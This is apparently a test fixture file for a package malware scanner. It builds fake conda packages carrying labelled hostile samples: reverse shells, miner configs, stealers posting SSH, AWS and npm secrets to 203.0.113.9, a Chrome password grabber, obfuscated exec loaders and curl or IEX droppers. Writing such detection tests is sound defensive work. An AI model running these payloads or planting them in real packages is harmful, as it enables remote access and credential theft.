"""Hostile packages for the YARA, clamd and known-bad-list scanners (see :mod:`tests.support.hostile`).

Every shipped YARA rule has at least one case here; so do the clamd signatures of
:func:`tests.support.clamd.default_signatures` (a test string and EICAR, which needs a running
clamd with that database) and the known-bad list (:data:`KNOWN_BAD`, the snapshot the hash cases
need). Addresses are from the documentation ranges (203.0.113.0/24, example.net); no payload here
does anything if run, and the EICAR string is assembled from parts in :mod:`tests.support.clamd`.

    for case in HOSTILE_YARA:          # case.scanner: "yara", "clamd" or "hashes"
        path = case.build(tmp_path)
"""

from __future__ import annotations

import base64
import hashlib
import zlib
from functools import partial
from pathlib import Path

from stockade.scanning.interfaces import Verdict
from stockade.scanning.scanners.hashes import KnownBadList
from tests.factories.packages import Entry, PackageSpec, build_conda, build_tar_bz2, file
from tests.support.clamd import EICAR, EICAR_SIGNATURE, TEST_SIGNATURE, TEST_STRING
from tests.support.hostile import HostileCase

SITE = "lib/python3.11/site-packages"
M, S = Verdict.MALICIOUS, Verdict.SUSPICIOUS
BLOB = base64.b64encode(zlib.compress(b"print('hello')\n" * 40) + bytes(range(256)) * 2).decode()


def _build(spec: PackageSpec, fmt: str, directory: Path) -> Path:
    return build_conda(directory, spec) if fmt == "conda" else build_tar_bz2(directory, spec)


def _case(
    name: str,
    rule: str,
    verdict: Verdict,
    *members: Entry,
    fmt: str = "conda",
    version: str = "1.0",
) -> HostileCase:
    spec = PackageSpec(name=name, version=version, build="0", subdir="linux-64", payload=members)
    return HostileCase(name, partial(_build, spec, fmt), rule, verdict)


def _text(path: str, text: str, *, mode: int = 0o644) -> Entry:
    return file(path, text.encode(), mode=mode)


def _yara(name: str, rule: str, verdict: Verdict, path: str, text: str, **kw: str) -> HostileCase:
    return _case(name, f"yara:{rule}", verdict, _text(path, text), **kw)


_REVERSE_SHELLS = [
    _yara(
        "evil-bash-devtcp",
        "stockade_revshell_bash_dev_tcp",
        M,
        "bin/.update-helper.sh",
        "#!/bin/bash\nsleep 30\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
        fmt="tar.bz2",
    ),
    _yara(
        "evil-py-revshell",
        "stockade_revshell_python_socket_dup2",
        M,
        f"{SITE}/evil_py_revshell/__init__.py",
        "import os, pty, socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "s.connect(('203.0.113.7', 4444))\n"
        "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)\n"
        "pty.spawn('/bin/bash')\n",
    ),
    _yara(
        "evil-py-popen-shell",
        "stockade_revshell_python_socket_dup2",
        M,
        f"{SITE}/evil_py_popen_shell/_hook.py",
        "import socket, subprocess\n"
        "s = socket.create_connection(('203.0.113.7', 443))\n"
        "subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n",
        fmt="tar.bz2",
    ),
    _yara(
        "evil-nc-exec",
        "stockade_revshell_netcat_exec",
        M,
        "libexec/evil/keepalive.sh",
        "#!/bin/sh\nwhile true; do nc -e /bin/sh 203.0.113.7 4444; sleep 60; done\n",
    ),
    _yara(
        "evil-nc-fifo",
        "stockade_revshell_netcat_exec",
        M,
        "bin/.evil-nc-fifo-post-link.sh",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/f\n",
        fmt="tar.bz2",
    ),
    _yara(
        "evil-ps-tcpclient",
        "stockade_revshell_powershell_tcpclient",
        M,
        "Scripts/evil-update.ps1",
        "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);"
        "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
        "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){"
        "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
        "$sendback = (iex $data 2>&1 | Out-String );}\n",
    ),
]

_MINERS = [
    _yara(
        "evil-stratum",
        "stockade_miner_stratum_url",
        M,
        "share/evil-stratum/run.sh",
        "#!/bin/sh\n./worker -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ -p x &\n",
    ),
    _yara(
        "evil-xmrig-config",
        "stockade_miner_xmrig_config",
        M,
        "etc/evil-xmrig/config.json",
        '{\n  "autosave": true,\n  "donate-level": 1,\n  "cpu": {"enabled": true},\n'
        '  "randomx": {"init": -1, "mode": "auto"},\n'
        '  "pools": [{"url": "pool.example.net:443", "user": "44AFFq5kSiGBoZ",'
        ' "rig-id": null, "nicehash": false, "coin": "monero"}]\n}\n',
        fmt="tar.bz2",
    ),
    _yara(
        "evil-pool-host",
        "stockade_miner_pool_host",
        S,
        f"{SITE}/evil_pool_host/defaults.py",
        'POOL = "gulf.moneroocean.stream:10128"\n',
    ),
]

_STEALERS = [
    _yara(
        "evil-cred-harvest",
        "stockade_stealer_credential_harvest",
        M,
        f"{SITE}/evil_cred_harvest/__init__.py",
        "import os, requests\nHOME = os.path.expanduser('~')\nFILES = ['.aws/credentials',"
        " '.ssh/id_rsa', '.docker/config.json']\nSINK = 'https://203.0.113.9/c'\n"
        "def _go():\n    for f in FILES:\n        p = os.path.join(HOME, f)\n"
        "        if os.path.exists(p):\n            requests.post(SINK, data=open(p).read())\n"
        "_go()\n",
    ),
    _yara(
        "evil-npmrc-exfil",
        "stockade_stealer_secret_file_exfil",
        M,
        f"{SITE}/evil_npmrc_exfil/setup_hook.py",
        "import pathlib, requests\ntoken = (pathlib.Path.home() / '.npmrc').read_text()\n"
        "requests.post('https://203.0.113.9/t', data={'t': token})\n",
        fmt="tar.bz2",
    ),
    _yara(
        "evil-browser-pw",
        "stockade_stealer_browser_passwords",
        M,
        f"{SITE}/evil_browser_pw/grab.py",
        "import os, json, base64, sqlite3, win32crypt\n"
        "base = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data')\n"
        "key = json.load(open(os.path.join(base, 'Local State')))['os_crypt']['encrypted_key']\n"
        "key = win32crypt.CryptUnprotectData(base64.b64decode(key)[5:], None, None, None, 0)[1]\n"
        "db = sqlite3.connect(os.path.join(base, 'Default', 'Login Data'))\n",
    ),
    _yara(
        "evil-discord-grab",
        "stockade_stealer_discord_token",
        M,
        f"{SITE}/evil_discord_grab/__init__.py",
        "import os, re, requests\n"
        "path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
        "found = []\nfor name in os.listdir(path):\n"
        "    found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(name).read())\n"
        "requests.post('https://discord.com/api/webhooks/1/abc', json={'content': str(found)})\n",
    ),
    _yara(
        "evil-discord-hook",
        "stockade_exfil_discord_webhook",
        S,
        f"{SITE}/evil_discord_hook/config.py",
        "HOOK = 'https://discord.com/api/webhooks/123456789012345678/" + "Ab1_" * 17 + "'\n",
    ),
]

_OBFUSCATION = [
    _yara(
        "evil-b64-exec",
        "stockade_obfuscated_exec_decoded",
        M,
        f"{SITE}/evil_b64_exec/__init__.py",
        "import base64\nexec(base64.b64decode('cHJpbnQoImhlbGxvIik='))\n",
    ),
    _yara(
        "evil-zlib-exec",
        "stockade_obfuscated_exec_decoded",
        M,
        f"{SITE}/evil_zlib_exec/__init__.py",
        "exec(__import__('zlib').decompress(__import__('base64').b64decode('eJwrKM...')))\n",
        fmt="tar.bz2",
    ),
    _yara(
        "evil-chr-join",
        "stockade_obfuscated_exec_chr_join",
        M,
        f"{SITE}/evil_chr_join/__init__.py",
        "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n",
    ),
    _yara(
        "evil-marshal",
        "stockade_obfuscated_marshal_loads",
        M,
        f"{SITE}/evil_marshal/__init__.py",
        "import marshal, zlib, base64\n"
        f"code = marshal.loads(zlib.decompress(base64.b64decode('{BLOB[:80]}')))\n"
        "exec(code)\n",
    ),
    _yara(
        "evil-blob-exec",
        "stockade_obfuscated_encoded_blob_exec",
        S,
        f"{SITE}/evil_blob_exec/_data.py",
        f"import base64\nPAYLOAD = base64.b64decode('{BLOB}')\n\ndef run(g):\n"
        "    exec(PAYLOAD.decode('latin-1'), g)\n",
    ),
]

_DROPPERS = [
    _yara(
        "evil-sh-dropper",
        "stockade_dropper_shell_tmp_exec",
        M,
        "bin/evil-sh-dropper-setup",
        "#!/bin/sh\ncurl -fsSL https://203.0.113.5/agent -o /tmp/.agent && chmod +x /tmp/.agent"
        " && nohup /tmp/.agent >/dev/null 2>&1 &\n",
    ),
    _yara(
        "evil-py-dropper",
        "stockade_dropper_python_tmp_exec",
        M,
        f"{SITE}/evil_py_dropper/__init__.py",
        "import os, subprocess, tempfile, urllib.request\n"
        "target = os.path.join(tempfile.gettempdir(), 'svc')\n"
        "urllib.request.urlretrieve('https://203.0.113.5/svc', target)\n"
        "os.chmod(target, 0o755)\nsubprocess.Popen([target])\n",
        fmt="tar.bz2",
    ),
    _yara(
        "evil-ps-dropper",
        "stockade_dropper_powershell_download_exec",
        S,
        "Scripts/evil-ps-dropper.ps1",
        "IEX (New-Object Net.WebClient).DownloadString('https://203.0.113.5/stage2.ps1')\n",
    ),
]

KNOWN_BAD_FILE = b"#!/bin/sh\n# a file the known-bad list names by its sha256\n"
KNOWN_BAD_FILE_SHA256 = hashlib.sha256(KNOWN_BAD_FILE).hexdigest()
KNOWN_BAD = KnownBadList(
    sha256s=frozenset({KNOWN_BAD_FILE_SHA256}),
    packages=frozenset({("evil-listed-any", None), ("evil-listed-version", "1.0")}),
    labels={"evil-listed-any": "MAL-2026-0001", "evil-listed-version==1.0": "MAL-2026-0002"},
)

_HASHES = [
    _case("evil-listed-any", "hashes:malicious-package", M, _text("lib/x.txt", "x\n")),
    _case(
        "evil-listed-version",
        "hashes:malicious-package",
        M,
        _text("lib/x.txt", "x\n"),
        fmt="tar.bz2",
    ),
    _case(
        "evil-listed-file",
        "hashes:known-bad-file",
        M,
        file("bin/helper", KNOWN_BAD_FILE, mode=0o755),
    ),
]

_CLAMD = [
    _case(
        "evil-clamd-test",
        f"clamd:{TEST_SIGNATURE}.UNOFFICIAL",
        M,
        file("share/evil/data.bin", b"\0\1" + TEST_STRING + b"\2\3"),
    ),
    _case(
        "evil-clamd-eicar",
        f"clamd:{EICAR_SIGNATURE}.UNOFFICIAL",
        M,
        file("share/evil/eicar.com", EICAR),
        fmt="tar.bz2",
    ),
]

HOSTILE_YARA: list[HostileCase] = [
    *_REVERSE_SHELLS,
    *_MINERS,
    *_STEALERS,
    *_OBFUSCATION,
    *_DROPPERS,
    *_HASHES,
    *_CLAMD,
]
